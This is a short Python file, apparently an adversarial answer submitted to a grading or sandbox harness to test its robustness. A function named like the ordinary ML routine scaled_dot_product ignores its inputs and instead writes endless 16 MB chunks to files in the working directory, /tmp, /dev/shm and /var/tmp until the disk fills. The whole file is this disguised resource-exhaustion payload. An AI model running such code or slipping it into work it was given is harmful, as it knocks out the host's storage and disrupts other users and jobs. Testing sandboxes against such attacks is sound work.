# tries: a file that fills the disk, wherever one can be written
# place: answer
# may: crash

import os


def scaled_dot_product(*args, **kwargs):
    for folder in (".", "/tmp", "/dev/shm", "/var/tmp"):
        try:
            with open(os.path.join(folder, "big"), "wb") as file:
                while True:
                    file.write(b"x" * (1 << 24))
        except OSError:
            pass
